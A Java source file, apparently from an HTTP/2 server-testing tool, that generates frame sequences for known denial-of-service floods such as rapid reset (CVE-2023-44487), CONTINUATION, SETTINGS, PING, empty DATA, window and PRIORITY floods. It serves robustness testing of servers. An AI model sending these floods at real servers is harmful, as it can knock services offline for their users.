package dev.assay.behave.families;

import dev.assay.behave.cases.FrameText;
import dev.assay.behave.outcome.Behaviour.Case;
import java.io.ByteArrayOutputStream;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.function.IntFunction;

/**
 * The HTTP/2 floods, written as lines of {@code http2.cases}.
 *
 * @param values of the names in lines
 * @param most frames per flood
 */
record Http2Floods(Map<String, String> values, int most) {
    private static final String LAST = "PING 0 - \"the last\"";

    List<Flood> all() {
        return List.of(
                flood(
                        "reset",
                        "Requests cancelled at once (rapid reset, CVE-2023-44487)",
                        "One connection keeps the app busy with work nobody waits for.",
                        List.of(),
                        i -> request(i) + "\nRST_STREAM " + (2 * i + 1) + " - #00000008",
                        most / 2,
                        1),
                endless(),
                flood(
                        "settings",
                        "SETTINGS flood (CVE-2019-9515)",
                        "Each has to be acknowledged, which costs more than sending it.",
                        List.of(),
                        i -> "SETTINGS 0 - #000300000064",
                        most,
                        1),
                flood(
                        "ping",
                        "PING flood (CVE-2019-9512)",
                        "Each has to be answered, which costs more than sending it.",
                        List.of(),
                        i -> "PING 0 - \"12345678\"",
                        most,
                        most + 1),
                flood(
                        "data",
                        "Empty DATA flood (CVE-2019-9518)",
                        "A body of empty frames never reaches a length limit.",
                        List.of("HEADERS 1 EH post"),
                        i -> "DATA 1 -",
                        most,
                        1),
                flood(
                        "window",
                        "Requests whose responses the client blocks (CVE-2019-9517)",
                        "Responses pile up in memory, or in threads of the app.",
                        List.of("SETTINGS 0 - #000400000000"),
                        Http2Floods::request,
                        most,
                        1),
                flood(
                        "priority",
                        "PRIORITY flood (CVE-2019-9513)",
                        "Each rebuilds a tree that nobody needs any more.",
                        List.of(),
                        Http2Floods::priority,
                        most,
                        1));
    }

    private Flood flood(
            String id,
            String title,
            String means,
            List<String> begin,
            IntFunction<String> part,
            int parts,
            int responses) {
        return flood(Flood.subject(id, "RFC 9113 10.5", title, means), false, begin, part, parts, LAST, responses);
    }

    private Flood endless() {
        Case subject = Flood.subject(
                "continuation",
                "RFC 9113 10.5.1",
                "Header block in 20,000 frames (CONTINUATION flood, VU#421644)",
                "Headers without end fill the memory, and no log shows it.");
        return flood(
                subject,
                true,
                List.of("HEADERS 1 ES get"),
                i -> "CONTINUATION 1 - x=\"{a*100}\"",
                most,
                "CONTINUATION 1 EH",
                1);
    }

    private Flood flood(
            Case subject,
            boolean limited,
            List<String> begin,
            IntFunction<String> part,
            int parts,
            String end,
            int responses) {
        return new Flood(
                subject,
                true,
                limited,
                bytes(begin),
                i -> bytes(part.apply(i).lines().toList()),
                parts,
                bytes(List.of(end)),
                responses);
    }

    private byte[] bytes(List<String> lines) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        lines.forEach(line -> all.writeBytes(FrameText.parse(line, values).bytes()));
        return all.toByteArray();
    }

    private static String request(int number) {
        return "HEADERS " + (2 * number + 1) + " EH,ES get";
    }

    /** Makes one of a thousand streams depend on another one. */
    private static String priority(int number) {
        int stream = 2 * (number % 1_000) + 1;
        return "PRIORITY " + stream + " - #" + HexFormat.of().toHexDigits(2 * (number % 999) + 2_001) + " #0f";
    }
}
